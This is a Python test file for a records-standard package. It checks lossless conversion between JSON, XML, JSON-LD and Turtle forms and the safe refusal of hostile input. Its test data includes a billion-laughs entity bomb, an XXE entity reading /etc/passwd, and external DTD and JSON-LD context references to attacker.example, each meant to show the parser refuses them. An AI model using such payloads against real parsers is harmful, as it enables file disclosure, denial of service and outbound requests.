"""The record's other forms: XML (XSD), JSON-LD and Turtle (SHACL); lossless conversion; safe reading."""

from __future__ import annotations

import json
import socket
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import etree

from wipo_bc_standard import Level, validate
from wipo_bc_standard.cli import main
from wipo_bc_standard.constants import CONTEXT_URL
from wipo_bc_standard.formats import artifacts, rdf_form, xml_form
from wipo_bc_standard.formats.convert import render
from wipo_bc_standard.rules.examples import example_record
from wipo_bc_standard.sources import READERS, iter_items

from .conftest import EXAMPLES

TARGETS = ("record", "profile", "governance")
JSON_EXAMPLES = [p for t in TARGETS for p in sorted((EXAMPLES / "valid" / t).glob("*.json"))]
RECORD_EXAMPLES = [p for p in JSON_EXAMPLES if p.parent.name == "record"]
#: A refusal must cost (much) less than this, however hostile the input.
REFUSAL_SECONDS = 0.5


def _ids(path: Path) -> str:
    return path.relative_to(EXAMPLES).as_posix()


def _items(path: Path) -> list:
    return list(iter_items([path]))


def test_committed_artifacts_are_what_the_generators_produce() -> None:
    assert artifacts.drift() == [], "run `wipo-bc schemas export` (formats.artifacts.export)"


def test_readers_are_registered_by_file_ending() -> None:
    assert {".xml", ".jsonld", ".ttl"} <= set(READERS)


def test_the_examples_cover_every_target() -> None:
    assert len(RECORD_EXAMPLES) >= 5
    assert all(any(p.parent.name == t for p in JSON_EXAMPLES) for t in TARGETS)


@pytest.mark.parametrize("path", RECORD_EXAMPLES, ids=_ids)
def test_record_json_xml_json_is_identical(path: Path, tmp_path: Path) -> None:
    doc = json.loads(path.read_bytes())
    xml_path = tmp_path / "record.xml"
    xml_path.write_bytes(render(doc, "record", "xml"))
    [item] = _items(xml_path)
    assert item.findings == [] and item.doc == doc
    assert validate(xml_path, profile="strict", fail_on=Level.INFO).conformant


@pytest.mark.parametrize("form", ["jsonld", "ttl"])
@pytest.mark.parametrize("path", JSON_EXAMPLES, ids=_ids)
def test_json_rdf_json_is_identical(path: Path, form: str, tmp_path: Path) -> None:
    doc = json.loads(path.read_bytes())
    target = path.parent.name
    rdf_path = tmp_path / f"doc.{form}"
    rdf_path.write_bytes(render(doc, target, form))
    [item] = _items(rdf_path)
    assert item.findings == [] and item.doc == doc
    report = validate(rdf_path, profile="strict", fail_on=Level.INFO)
    assert report.conformant and report.items[0].target == target


def test_codes_become_code_list_concepts_even_when_spelt_like_a_member() -> None:
    # "office" is both a party role and the member ipRight.office: the value must be the concept.
    doc = example_record(parties=[{"role": "office", "id": "did:web:office.example"}])
    turtle = rdf_form.to_turtle(doc, "record")
    assert "party-roles:office" in turtle and "ip-right-kinds:trademark" in turtle
    assert '"2021-04-17"^^xsd:date' in turtle


def test_cli_converts_and_refuses_what_it_cannot_convert_losslessly(tmp_path: Path) -> None:
    source = tmp_path / "record.json"
    source.write_text(json.dumps(example_record()), encoding="utf-8")
    out = tmp_path / "record.xml"
    result = CliRunner().invoke(main, ["convert", str(source), "--to", "xml", "-o", str(out)])
    assert result.exit_code == 0, result.output
    back = CliRunner().invoke(main, ["convert", str(out), "--to", "json"])
    assert json.loads(back.output) == example_record()
    source.write_text(json.dumps(example_record(colour="red")), encoding="utf-8")
    refused = CliRunner().invoke(main, ["convert", str(source), "--to", "ttl"])
    assert refused.exit_code == 2 and "not schema-valid" in refused.output


def test_xsd_findings_name_the_member_and_the_line() -> None:
    doc = example_record(ipRight__office="em")
    item = xml_form.item_from_bytes("x.xml", render(doc, "record", "xml").replace(b"<Kind>", b"<Kind>x", 1))
    found = {(f.rule, f.path) for f in item.findings}
    assert ("xsd.pattern", "/ipRight/office") in found and ("xsd.enumeration", "/ipRight/kind") in found
    assert all(dict(f.params)["line"] > 1 for f in item.findings)


def _refusal(data: bytes, reader) -> tuple[list[str], float]:
    start = time.perf_counter()
    items = list(reader("input", data))
    elapsed = time.perf_counter() - start
    return [i.error.rule for i in items if i.error is not None], elapsed


def _xml_reader(source: str, data: bytes):
    yield xml_form.item_from_bytes(source, data)


BODY = render(example_record(), "record", "xml").split(b"\n", 1)[1]
HOSTILE_XML = {
    "billion-laughs": b"<?xml version='1.0'?>\n<!DOCTYPE Record [<!ENTITY a 'aaaaaaaaaa'>"
                      + b"".join(b"<!ENTITY a%d '%s'>" % (i, (b"&a%s;" % (b"" if i == 1 else b"%d" % (i - 1))) * 10)
                                 for i in range(1, 12))
                      + b"]>\n" + BODY.replace(b"<Title>", b"<Title>&a11;"),
    "external-file": b"<!DOCTYPE Record [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>\n"
                     + BODY.replace(b"FIL", b"&x;"),
    "external-url": b"<!DOCTYPE Record [<!ENTITY % p SYSTEM 'http://attacker.example/x.dtd'> %p;]>\n" + BODY,
}


@pytest.mark.parametrize("name", sorted(HOSTILE_XML))
def test_hostile_xml_is_refused_at_once(name: str) -> None:
    rules, elapsed = _refusal(HOSTILE_XML[name], _xml_reader)
    assert rules == ["xml.entity"] and elapsed < REFUSAL_SECONDS


def test_an_xml_doctype_or_another_encoding_is_refused() -> None:
    assert _refusal(b"<!DOCTYPE Record SYSTEM 'http://x.example/r.dtd'>\n" + BODY, _xml_reader)[0] == ["xml.doctype"]
    assert _refusal(BODY.decode().encode("utf-16"), _xml_reader)[0] == ["xml.encoding"]
    assert _refusal(b"\n" * (xml_form.MAX_XML_BYTES + 1), _xml_reader)[0] == ["xml.too-large"]


def test_schema_locations_anywhere_in_an_xml_record_are_findings() -> None:
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    body = BODY.decode().replace("<Record ", f'<Record {xsi} xsi:schemaLocation="urn:x http://a.example/r.xsd" ', 1)
    body = body.replace("<Event>", '<Event xsi:noNamespaceSchemaLocation="http://b.example/t.xsd">', 1)
    item = xml_form.item_from_bytes("r.xml", body.encode())
    named = [f.message for f in item.findings if f.rule == "xml.schema-location"]
    assert len(named) == 2 and "a.example" in named[0] and "b.example" in named[1]
    assert not [f for f in xml_form.item_from_bytes("r.xml", BODY).findings if f.rule == "xml.schema-location"]


def test_files_are_read_whole_up_to_the_limit_and_one_byte_past_it(tmp_path: Path) -> None:
    small, large = tmp_path / "small.xml", tmp_path / "large.xml"
    small.write_bytes(BODY)
    large.write_bytes(b"x" * 1000)
    assert xml_form.read_bounded(small, 1000) == BODY
    assert xml_form.read_bounded(large, 999) == b"x" * 1000 and xml_form.read_bounded(large, 1000) == b"x" * 1000


def test_remote_json_ld_contexts_are_refused_and_nothing_is_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    attempts: list[object] = []

    def record_attempt(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("network is off in this test")
    monkeypatch.setattr(socket.socket, "connect", record_attempt)
    monkeypatch.setattr(socket, "create_connection", record_attempt)
    monkeypatch.setattr(socket, "getaddrinfo", record_attempt)
    doc = rdf_form.to_jsonld(example_record(), "record")
    for context in ("https://schema.org/", "http://127.0.0.1:9/context.jsonld", "context.jsonld",
                    [CONTEXT_URL, "https://w3id.org/security/v2"], {"@import": "https://attacker.example/c.jsonld"}):
        data = json.dumps({**doc, "@context": context}).encode()
        rules, elapsed = _refusal(data, rdf_form.items_from_jsonld)
        assert rules == ["jsonld.remote-context"] and elapsed < REFUSAL_SECONDS
    nested = {**doc, "ipRight": {**doc["ipRight"], "@context": "https://attacker.example/c"}}
    assert _refusal(json.dumps(nested).encode(), rdf_form.items_from_jsonld)[0] == ["jsonld.remote-context"]
    # The bundled context, by URL or inline, is served from the package.
    inline = {**doc, "@context": rdf_form.context_document()["@context"]}
    for good in (doc, inline):
        [item] = rdf_form.items_from_jsonld("x", json.dumps(good).encode())
        assert item.error is None and item.doc == example_record()
    assert attempts == []


def test_shacl_findings_point_at_the_member() -> None:
    doc = rdf_form.to_jsonld(example_record(), "record")
    doc["ipRight"] = {**doc["ipRight"], "kind": "trade-mark"}
    del doc["recordId"]
    [item] = rdf_form.items_from_jsonld("x.jsonld", json.dumps(doc).encode())
    found = {(f.rule, f.path) for f in item.findings}
    assert ("shacl.in", "/ipRight/kind") in found and ("shacl.minCount", "/recordId") in found


def test_shapes_and_xsd_are_well_formed_artifacts() -> None:
    root = Path(__file__).resolve().parents[1]
    etree.XMLSchema(etree.parse(str(root / "schemas" / "record.xsd")))
    for target in TARGETS:
        assert rdf_form.Graph().parse(root / "schemas" / f"{target}.shacl.ttl", format="turtle")
    assert json.loads((root / "vocab" / "context.jsonld").read_text(encoding="utf-8"))["@context"]["@version"] == 1.1


def test_the_shapes_code_lists_name_the_vocabularys_concepts() -> None:
    # sh:in lists the codes as IRIs: they must be the concepts the vocabulary publishes, escaped alike.
    from rdflib import RDF, SKOS, URIRef
    from rdflib.collection import Collection
    from rdflib.namespace import SH

    from wipo_bc_standard import vocabulary

    concepts = set(vocabulary.graph().subjects(RDF.type, SKOS.Concept))
    root = Path(__file__).resolve().parents[1]
    listed: set[URIRef] = set()
    for target in TARGETS:
        shapes = rdf_form.Graph().parse(root / "schemas" / f"{target}.shacl.ttl", format="turtle")
        for head in shapes.objects(None, SH["in"]):
            listed.update(v for v in Collection(shapes, head) if isinstance(v, URIRef))
    assert listed and listed <= concepts
    assert URIRef(vocabulary.code_iri("ip-right-kinds", "trademark")) in listed
